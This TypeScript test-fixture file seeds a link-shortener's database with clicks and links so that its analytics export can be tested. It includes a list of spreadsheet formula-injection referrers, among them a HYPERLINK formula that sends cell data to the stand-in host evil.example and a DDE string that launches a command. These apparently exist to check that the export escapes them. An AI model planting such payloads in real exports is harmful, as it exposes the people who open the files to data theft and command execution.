import { randomUUID } from 'node:crypto';
import { eq, sql } from 'drizzle-orm';
import type { Database } from '#src/db/client.ts';
import { clickDaily, clicks, links } from '#src/db/schema.ts';
import { createClicksRepository } from '#src/modules/analytics/clicks.repository.ts';
import {
  createLink,
  createUser,
  unique,
  type LinkFixture,
  type UserFixture,
} from '#test/factories.ts';

/** Referrers that a spreadsheet would run as formulas, and one that needs quoting. */
export const HOSTILE_REFERRERS = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1,2)',
  'https://example.com/a,"b"\nc',
];

/**
 * Stores `count` clicks of one link through the ingest's own statement (so the rollups follow),
 * one second apart from `start`, in statements of a thousand; every tenth is a bot, and some
 * carry the hostile referrers.
 */
export async function seedClicks(
  db: Database,
  linkId: string,
  count: number,
  start = Date.UTC(2025, 0, 1),
): Promise<void> {
  const repository = createClicksRepository(db);
  for (let offset = 0; offset < count; offset += 1000) {
    const batch = Array.from({ length: Math.min(1000, count - offset) }, (_, index) => {
      const n = offset + index;
      const referrer =
        n % 7 === 0 ? (HOSTILE_REFERRERS[n % HOSTILE_REFERRERS.length] ?? null) : null;
      return {
        eventId: randomUUID(),
        linkId,
        clickedAt: new Date(start + n * 1000),
        referrer,
        referrerHost: referrer === null ? null : 'evil.example',
        browser: n % 2 === 0 ? 'Firefox' : 'Chrome',
        os: 'Linux',
        device: 'desktop',
        isBot: n % 10 === 0,
        ip: '203.0.113.0',
        visitorHash: `visitor-${n % 50}`,
      };
    });
    await repository.insertMany(batch);
  }
}

export interface ExportFixture {
  readonly user: UserFixture;
  /** Newest first, as the export lists them. */
  readonly links: readonly LinkFixture[];
}

/**
 * A user with four links (a plain one with clicks, one with a slug and a hostile title, a
 * disabled one, an expired one) and `clicksPerLink` clicks on each of the first two.
 */
export async function seedExportUser(db: Database, clicksPerLink = 30): Promise<ExportFixture> {
  const user = await createUser(db);
  const base = Date.now() - 60_000;
  const made: LinkFixture[] = [];
  const specs = [
    { title: 'Plain' },
    { slug: `s-${unique()}`.toLowerCase().slice(0, 64), title: '=1+1, "quoted"\nnext line' },
    { disabled: true, title: null },
    { expiresAt: new Date(Date.now() - 1000), title: '@home' },
  ];
  for (const [index, spec] of specs.entries()) {
    made.push(
      await createLink(db, { ownerId: user.id, createdAt: new Date(base + index * 1000), ...spec }),
    );
  }
  for (const link of made.slice(0, 2)) await seedClicks(db, link.id, clicksPerLink);
  return { user, links: made.reverse() };
}

/** What the database holds for one user: links with their all-time totals, and raw clicks. */
export async function storedData(db: Database, ownerId: string) {
  const ownLinks = await db.select().from(links).where(eq(links.ownerId, ownerId));
  const totals = await db
    .select({
      linkId: clickDaily.linkId,
      clicks: sql<number>`sum(${clickDaily.clicks})`.mapWith(Number),
      bots: sql<number>`sum(${clickDaily.bots})`.mapWith(Number),
      visitors: sql<number>`sum(${clickDaily.visitors})`.mapWith(Number),
    })
    .from(clickDaily)
    .innerJoin(links, eq(links.id, clickDaily.linkId))
    .where(eq(links.ownerId, ownerId))
    .groupBy(clickDaily.linkId);
  const ownClicks = await db
    .select({ code: links.code, click: clicks })
    .from(clicks)
    .innerJoin(links, eq(links.id, clicks.linkId))
    .where(eq(links.ownerId, ownerId));
  return { links: ownLinks, totals, clicks: ownClicks };
}
